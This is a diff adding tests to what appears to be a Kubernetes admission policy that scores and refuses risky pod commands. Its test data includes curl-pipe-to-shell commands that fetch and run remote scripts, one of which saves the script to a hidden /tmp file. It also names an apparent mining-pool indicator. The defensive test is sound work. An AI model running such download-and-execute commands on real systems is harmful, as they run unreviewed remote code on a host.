@@ -57,6 +57,42 @@ describe('a policy', () => {
     expect(await refusal(create('shop', 'x'))).toContain('is refused');
   });
 
+  it('goes by the labels of the namespace', async () => {
+    await scene.cluster.patch(KIND.Namespace, { name: 'shop' }, { metadata: { labels: { kind: 'lab' } } });
+    await setPolicy({
+      admission: { namespaces: [{ selector: { matchLabels: { kind: 'lab' } }, mode: 'warn' }] },
+    });
+    await admitted('shop');
+    expect(await refusal(create('billing', 'x'))).toContain('is refused');
+  });
+
+  it('moves the score from which on a request is refused', async () => {
+    const suspect = { command: ['sh', '-c', 'curl -s https://example.org/install.sh | sh'] };
+    const make = (name: string) => scene.as('alice').create(KIND.Pod, podOf(name, 'shop', suspect));
+    await make('before');
+    expect(scene.warnings.join()).toContain('remote-script');
+    await setPolicy({ admission: { thresholds: { deny: 50 } } });
+    await make('still-forty');
+    const twice = {
+      command: [
+        'sh',
+        '-c',
+        'curl -s https://example.org/install.sh -o /tmp/.x; sh /tmp/.x; curl -s https://a.org/b | sh',
+      ],
+    };
+    await eventually(
+      () =>
+        scene
+          .as('alice')
+          .create(KIND.Pod, podOf(`x-${performance.now()}`, 'shop', twice))
+          .then(
+            () => undefined,
+            (error: Error) => (error.message.includes('is refused') ? true : undefined),
+          ),
+      'refused',
+    );
+  });
+
   it('adds indicators of its own', async () => {
     await setPolicy({ indicators: { pools: ['pool.evil.example'] } });
     const message = await eventually(
